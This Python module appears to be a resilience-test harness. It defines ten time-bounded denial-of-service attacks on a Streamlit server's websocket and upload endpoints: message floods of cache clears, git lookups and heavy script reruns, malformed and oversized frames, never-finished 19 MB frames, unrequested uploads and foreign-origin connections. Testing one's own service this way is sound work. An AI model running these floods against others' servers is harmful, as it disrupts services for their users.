"""What one hostile client may try: each attack is bounded, and says what it did."""

import asyncio
import base64
import contextlib
import os
import random
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from types import MappingProxyType

from streamlit.proto.BackMsg_pb2 import BackMsg
from websockets.asyncio.client import ClientConnection, connect
from websockets.exceptions import ConnectionClosed, InvalidHandshake

PATH = "/_stcore/stream"
MEGABYTE = bytes(2**20)
Attack = Callable[[str, float], Awaitable[str]]


def message(kind: str, value: object = True) -> bytes:
    """A message to Streamlit's server with a field of this name."""
    made = BackMsg()
    if kind == "rerun_script":
        made.rerun_script.query_string = str(value)
    else:
        setattr(made, kind, value)
    return bytes(made.SerializeToString())


@contextlib.asynccontextmanager
async def socket(address: str, **options: object) -> AsyncIterator[ClientConnection]:
    """A connection as a browser's, whose answers are read and thrown away."""
    async with connect(
        f"ws://{address}{PATH}", subprotocols=["streamlit"], compression=None, proxy=None, max_size=None, **options
    ) as made:  # type: ignore[call-overload]
        reading = asyncio.create_task(_drain(made))
        try:
            yield made
        finally:
            reading.cancel()


async def _drain(made: ClientConnection) -> None:
    with contextlib.suppress(ConnectionClosed):
        async for _ in made:
            pass


async def flood(address: str, seconds: float, frames: Callable[[], bytes], *, sockets: int, rate: float) -> int:
    """Send frames, so many a second on each of so many sockets; returns how many went out."""
    sent = 0

    async def one() -> None:
        nonlocal sent
        until = asyncio.get_running_loop().time() + seconds
        while asyncio.get_running_loop().time() < until:
            try:
                async with socket(address) as made:
                    while asyncio.get_running_loop().time() < until:
                        await made.send(frames())
                        sent += 1
                        await asyncio.sleep(1 / rate)
            except (ConnectionClosed, InvalidHandshake, OSError):
                await asyncio.sleep(0.1)  # shown out: come again

    await asyncio.gather(*[one() for _ in range(sockets)])
    return sent


async def clear_cache(address: str, seconds: float) -> str:
    """Clear what the whole process keeps."""
    n = await flood(address, seconds, lambda: message("clear_cache"), sockets=1, rate=10)
    return f"{n} × clear_cache"


async def git_info(address: str, seconds: float) -> str:
    """Have git run on the server's event loop."""
    n = await flood(address, seconds, lambda: message("load_git_info"), sockets=1, rate=400)
    return f"{n} × load_git_info"


async def reruns(address: str, seconds: float) -> str:
    """The same settings again and again."""
    n = await flood(address, seconds, lambda: message("rerun_script", "width=8&epochs=20"), sockets=20, rate=5)
    return f"{n} reruns from 20 sockets"


async def seeds(address: str, seconds: float) -> str:
    """Always new settings, the largest that a control has."""
    rng = random.Random(1)

    def frame() -> bytes:
        return message("rerun_script", f"width=256&depth=3&epochs=1000&n_samples=2000&seed={rng.randrange(10**6)}")

    n = await flood(address, seconds, frame, sockets=10, rate=2)
    return f"{n} × the largest networks, always another seed"


async def garbage(address: str, seconds: float) -> str:
    """Bytes that are no message, and widgets that are none."""
    rng = random.Random(2)

    def frame() -> bytes:
        if rng.random() < 0.5:
            return rng.randbytes(rng.randrange(300))
        made = BackMsg()
        state = made.rerun_script.widget_states.widgets.add(id=f"$$ID-{rng.randbytes(16).hex()}-width")
        state.string_value = "x" * rng.randrange(10_000)
        return bytes(made.SerializeToString())

    n = await flood(address, seconds, frame, sockets=10, rate=100)
    return f"{n} messages of garbage"


async def large(address: str, seconds: float) -> str:
    """Messages of two megabytes."""
    n = await flood(address, seconds, lambda: 2 * MEGABYTE, sockets=5, rate=5)
    return f"{n} × 2 MB"


async def unfinished(address: str, seconds: float) -> str:
    """Frames of 19 MB that never end, sent by hand."""
    host, _, port = address.rpartition(":")

    async def one() -> None:
        reader, writer = await asyncio.open_connection(host, int(port))
        key = base64.b64encode(os.urandom(16)).decode()
        writer.write(
            f"GET {PATH} HTTP/1.1\r\nHost: {address}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
            "Sec-WebSocket-Protocol: streamlit\r\n\r\n".encode()
        )
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            await reader.readuntil(b"\r\n\r\n")
            writer.write(bytes([0x82, 0xFF]) + (19 * 2**20).to_bytes(8, "big") + bytes(4))
            for _ in range(18):
                writer.write(MEGABYTE)
                await writer.drain()
            await asyncio.sleep(seconds)
        writer.close()

    await asyncio.wait([asyncio.create_task(one()) for _ in range(40)], timeout=seconds)
    return "40 frames of 19 MB without an end"


async def uploads(address: str, seconds: float) -> str:
    """Files that no page asks for."""
    host, _, port = address.rpartition(":")
    taken, end = 0, asyncio.get_running_loop().time() + seconds
    for number in range(300):
        if asyncio.get_running_loop().time() > end:
            break
        reader, writer = await asyncio.open_connection(host, int(port))
        writer.write(
            f"PUT /_stcore/upload_file/{number}/file HTTP/1.1\r\nHost: {address}\r\nContent-Length: {2**20}\r\n"
            "Content-Type: application/octet-stream\r\nConnection: close\r\n\r\n".encode()
        )
        with contextlib.suppress(OSError):
            writer.write(MEGABYTE)
            await asyncio.wait_for(writer.drain(), 5)
            taken += (await asyncio.wait_for(reader.readline(), 5)).split(b" ")[1:2] == [b"200"]
        writer.close()
    return f"300 uploads of 1 MB, {taken} taken"


async def origins(address: str, seconds: float) -> str:
    """Connections from pages of other sites."""
    opened, tried, end = 0, 0, asyncio.get_running_loop().time() + seconds
    while asyncio.get_running_loop().time() < end:
        tried += 1
        with contextlib.suppress(ConnectionClosed, InvalidHandshake, OSError):
            async with socket(address, origin=f"http://{tried}.example", open_timeout=5):
                opened += 1
        await asyncio.sleep(0.05)
    return f"{tried} foreign origins, {opened} let in"


async def arrivals(address: str, seconds: float) -> str:
    """Tabs that open the page and leave at once."""
    n, end = 0, asyncio.get_running_loop().time() + seconds

    async def one() -> None:
        nonlocal n
        while asyncio.get_running_loop().time() < end:
            with contextlib.suppress(ConnectionClosed, InvalidHandshake, OSError):
                async with socket(address) as made:
                    await made.send(message("rerun_script", ""))
                    n += 1
                    await asyncio.sleep(0.1)

    await asyncio.gather(*[one() for _ in range(20)])
    return f"{n} tabs opened and left"


ATTACKS: Mapping[str, Attack] = MappingProxyType(
    {
        attack.__name__: attack
        for attack in (
            clear_cache, git_info, reruns, seeds, garbage, large, unfinished, uploads, origins, arrivals,
        )
    }
)  # fmt: skip
